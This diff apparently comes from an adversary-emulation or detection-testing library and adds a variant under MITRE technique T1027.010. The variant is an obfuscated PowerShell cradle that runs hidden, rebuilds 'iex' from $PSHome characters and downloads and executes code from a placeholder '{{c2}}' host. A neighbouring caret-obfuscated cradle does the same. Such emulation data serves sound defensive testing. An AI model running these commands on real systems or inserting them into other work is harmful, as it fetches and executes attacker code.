@@ -13,6 +13,18 @@ export const extrasE: Readonly<Record<string, readonly Variant[]>> = {
     v("encoded-cradle", [{ ps: CRADLE, encode: true, net: [["{{c2}}", 80]] }]),
   ],
   "T1027.010": [
+    // Invoke-Obfuscation's IEX token (Emotet-era launchers), started from a shortcut or Run value.
+    v(
+      "invoke-obfuscation-iex",
+      [
+        {
+          cmd: "powershell.exe -nop -w hidden -c \".( $PSHome[4]+$PSHome[30]+'x') (New-Object Net.WebClient).DownloadString('http://{{c2}}/{{rand}}')\"",
+          parent: "@explorer",
+          net: [["{{c2}}", 80]],
+        },
+      ],
+      { shell: "none" },
+    ),
     v("caret-token-obfuscation", [
       {
         cmd: "cmd.exe /c p^o^w^e^r^s^h^e^l^l -nop -c \"i`e`x (n`ew-obj`ect N`et.WebC`lient).Down`loadString('http://{{c2}}/a')\"",
